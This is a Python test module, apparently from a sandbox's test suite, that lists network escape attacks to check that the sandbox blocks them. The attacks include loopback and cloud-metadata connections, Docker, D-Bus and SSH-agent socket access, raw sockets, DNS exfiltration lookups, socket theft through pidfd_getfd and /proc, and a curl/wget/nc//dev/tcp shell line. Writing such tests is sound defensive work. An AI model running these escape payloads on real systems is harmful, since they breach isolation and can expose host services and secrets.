"""Attacks on `network` where none is allowed: the host's sockets, raw packets, exotic families, tunnels."""
# ruff: noqa: E501 - programs of attackers stand as they would be run

from __future__ import annotations

import socket
from contextlib import closing

from tests.attacks.attack import Attack, family, holds, reaches
from tests.attacks.programs import py, sh
from tests.attacks.stage import Stage


async def _late_path_socket(stage: Stage) -> str:
    """Open a host socket at a visible path while the sandbox runs, and connect to it."""
    path = stage.host.outside.parent / "late"
    with closing(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)) as late:
        late.bind(str(path))
        late.listen()
        late.setblocking(False)
        await stage.run(py("socket.socket(socket.AF_UNIX).connect(os.path.dirname(T['OUTSIDE']) + '/late')"))
        try:
            late.accept()[0].close()
        except BlockingIOError:
            return ""
        finally:
            path.unlink()
    return "a socket that a host program opened later was reached"


async def _vanished_socket(stage: Stage) -> str:
    """Let a service of the host end whose socket stood when the sandbox opened: programs must still start."""
    path = stage.host.outside.parent / "service"
    with closing(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)) as service:
        service.bind(str(path))
        service.listen()
        sandbox = await stage.open(stage.sandbox.policy)
    path.unlink()
    async with sandbox:
        done = await sandbox.run(["echo", "alive"], timeout=8)
    return "" if done.stdout == b"alive\n" else f"no program starts any more: {done.stderr[:120]!r}"


_SEND = """
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
def send(family, address, *more):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", *more, address)
"""

ATTACKS = family(
    "network",
    "network",
    Attack(
        "loopback",
        "Connects to the host on 127.0.0.1 and ::1 in many spellings.",
        "",
        reaches(
            py(
                _SEND
                + """
for name in ("127.0.0.1", "127.1", "0", "localhost", "2130706433", "0x7f000001", "0177.0.0.1"):
    quietly(connect, socket.AF_INET, (name, int(T["TCP"])))
    quietly(connect, socket.AF_INET, (name, int(T["EVERYWHERE"])))
for name in ("::1", "::ffff:127.0.0.1", "::", "::127.0.0.1"):
    quietly(connect, socket.AF_INET6, (name, int(T["TCP6"])))
    quietly(connect, socket.AF_INET6, (name, int(T["TCP"])))
"""
            )
        ),
        opens_uncaged=True,
    ),
    Attack(
        "own_addresses",
        "Connects to the host by its addresses on the network, and by link-local and multicast ones.",
        "",
        reaches(
            py(
                _SEND
                + """
port = int(T["EVERYWHERE"])
for name in T["ADDRESSES"].split():
    quietly(connect, socket.AF_INET6 if ":" in name else socket.AF_INET, (name, port))
for name in ("169.254.169.254", "100.100.100.200", "10.0.2.2", "172.17.0.1", "192.168.122.1"):
    quietly(connect, socket.AF_INET, (name, port))
"""
            )
        ),
        opens_uncaged=True,
    ),
    Attack(
        "datagrams",
        "Sends UDP to the host: to 127.0.0.1, broadcast, many at once, and UDP-Lite.",
        "",
        reaches(
            py(
                _SEND
                + """
port = int(T["UDP"])
quietly(send, socket.AF_INET, ("127.0.0.1", port))
quietly(send, socket.AF_INET, ("127.0.0.1", port), socket.MSG_DONTROUTE)
for name in ("127.255.255.255", "0.0.0.0"):
    quietly(send, socket.AF_INET, (name, port))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    quietly(s.sendmsg, [b"x"], [], 0, ("127.0.0.1", port))
"""
            )
        ),
        opens_uncaged=True,
    ),
    Attack(
        "abstract_socket",
        "Connects and sends to abstract Unix sockets of the host.",
        "",
        reaches(
            py(
                _SEND
                + """
quietly(connect, socket.AF_UNIX, "\\0" + T["ABSTRACT"])
quietly(send, socket.AF_UNIX, "\\0" + T["ABSTRACT_DATAGRAMS"])
"""
            )
        ),
        opens_uncaged=True,
    ),
    Attack(
        "path_socket",
        "Connects and sends to Unix sockets of the host by path, link, /proc and hard link.",
        "",
        reaches(
            py(
                _SEND
                + """
out, space = T["OUTSIDE"], T["WORKSPACE"]
quietly(os.symlink, out + "/socket", space + "/socket-link")
quietly(os.link, out + "/socket", space + "/socket-hard")
descriptor = quietly(os.open, out + "/socket", os.O_PATH)
for path in (out + "/socket", space + "/socket-link", space + "/socket-hard", "/proc/self/root" + out + "/socket",
             f"/proc/self/fd/{descriptor}", f"/proc/{T['HOST']}/root{out}/socket"):
    quietly(connect, socket.AF_UNIX, path)
quietly(send, socket.AF_UNIX, out + "/datagrams")
"""
            )
        ),
        opens_uncaged=True,
    ),
    Attack(
        "raw_pair",
        "Makes a datagram pair under the name of a raw one and sends from it to host sockets.",
        "",
        reaches(
            py("""
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM, 4, 6, 10):
    pair = quietly(socket.socketpair, socket.AF_UNIX, kind)
    for end in pair or ():
        for address in (T["OUTSIDE"] + "/datagrams", "\\0" + T["ABSTRACT_DATAGRAMS"]):
            quietly(end.sendto, b"x", address)
            quietly(end.sendmsg, [b"x"], [], 0, address)
            quietly(end.connect, address)
            quietly(end.send, b"x", socket.MSG_DONTWAIT)
""")
        ),
        opens_uncaged=True,
    ),
    Attack(
        "late_path_socket",
        "Connects to a Unix socket that a host program opens while the sandbox runs.",
        "",
        _late_path_socket,
        exempt={"bubblewrap": "documented limit: sockets opened later outside /run, /tmp and homes"},
        opens_uncaged=True,
    ),
    Attack(
        "vanished_socket",
        "Starts after a service of the host has ended, whose socket was hidden.",
        "host",
        _vanished_socket,
    ),
    Attack(
        "service_sockets",
        "Connects to the sockets of services: Docker, D-Bus, SSH agent, X, systemd, databases.",
        "",
        holds(
            py("""
import glob
held = []
places = ["/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
          "/run/systemd/private", "/run/systemd/journal/socket", "/dev/log", "/run/udev/control"]
places += glob.glob("/tmp/ssh-*/agent.*") + glob.glob("/run/user/*/*") + glob.glob("/tmp/.X11-unix/*")
places += ["\\0/tmp/.X11-unix/X0", "\\0/tmp/dbus-x", os.environ.get("SSH_AUTH_SOCK", "/none"),
           os.environ.get("DBUS_SESSION_BUS_ADDRESS", "unix:path=/none")[10:]]
for line in open("/proc/net/unix").read().splitlines()[1:]:
    fields = line.split(maxsplit=7)
    places += [fields[7].replace("@", "\\0", 1)] if len(fields) == 8 else []
def connect(place, kind):
    s = socket.socket(socket.AF_UNIX, kind)
    s.settimeout(0.2)
    s.connect(place)
    held.append(s)
for place in places:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        quietly(connect, place, kind)
wait()
"""),
            "socket:",
        ),
    ),
    Attack(
        "raw_packets",
        "Opens raw, packet and ICMP sockets.",
        "",
        holds(
            py("""
held = []
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300)):
    held.append(quietly(socket.socket, family, kind, protocol))
wait()
"""),
            "socket:",
        ),
        opens_uncaged=True,
    ),
    Attack(
        "exotic_families",
        "Opens vsock, AF_ALG, TIPC, RDS, Bluetooth, CAN, XDP, SMC and other families.",
        "",
        holds(
            py("""
held = []
for family in range(3, 47):
    if family not in (10, 16):
        for kind in (1, 2, 3, 5):
            held.append(quietly(socket.socket, family, kind, 0))
held.append(quietly(socket.socketpair, 30, 5, 0))
wait()
"""),
            "socket:",
        ),
        opens_uncaged=True,
    ),
    Attack(
        "names",
        "Asks for names, which would carry data out in the question, by every resolver there is.",
        "",
        reaches(
            py(
                _SEND
                + """
quietly(socket.getaddrinfo, "secret.attack.test", 80)
for line in quietly(lambda: open("/etc/resolv.conf").readlines()) or ():
    if line.startswith("nameserver"):
        quietly(send, socket.AF_INET, (line.split()[1], int(T["UDP"])))
        quietly(send, socket.AF_INET, (line.split()[1], 53))
subprocess.run("getent hosts a.attack.test; nslookup a.attack.test 127.0.0.1", shell=True, timeout=5)
for name in T["ADDRESSES"].split():
    quietly(send, socket.AF_INET6 if ":" in name else socket.AF_INET, (name, int(T["UDP"])))
"""
            )
        ),
    ),
    Attack(
        "descriptor_passing",
        "Fetches a socket of the host by SCM_RIGHTS, pidfd_getfd and /proc/PID/fd.",
        "",
        holds(
            py("""
held = []
for pid in (int(T["HOST"]), int(T["VICTIM"]), 1):
    handle = quietly(syscall, 434, pid, 0)
    for number in range(40):
        if handle:
            held.append(quietly(syscall, 438, handle, number, 0))
        quietly(lambda: held.append(os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)))
for number in range(3, 64):
    if quietly(os.readlink, f"/proc/self/fd/{number}", ) and "socket" in os.readlink(f"/proc/self/fd/{number}"):
        held.append(number)
wait()
"""),
            "socket:",
        ),
    ),
    Attack(
        "tools",
        "Tries what the system offers: curl, wget, nc, ssh, bash's /dev/tcp, git, pip.",
        "",
        reaches(
            sh(
                'u="127.0.0.1:$EVERYWHERE"; curl -sm1 "http://$u"; wget -qT1 -t1 -O- "http://$u"; nc -w1 -z 127.0.0.1'
                ' "$EVERYWHERE"; (exec 9<>"/dev/tcp/127.0.0.1/$EVERYWHERE"); echo x > "/dev/udp/127.0.0.1/$UDP";'
                ' ssh -o ConnectTimeout=1 -p "$EVERYWHERE" 127.0.0.1 true; timeout 2 git ls-remote "git://$u/x";'
                ' timeout 2 git ls-remote "http://$u/x"; true'
            )
        ),
    ),
    Attack(
        "proxy_variables",
        "Uses a proxy of the host that its variables name.",
        "",
        reaches(
            py(
                _SEND
                + """
import urllib.request
proxy = urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{T['TCP']}"})
quietly(urllib.request.build_opener(proxy).open, "http://example.org/", timeout=1)
"""
            )
        ),
        opens_uncaged=True,
    ),
)
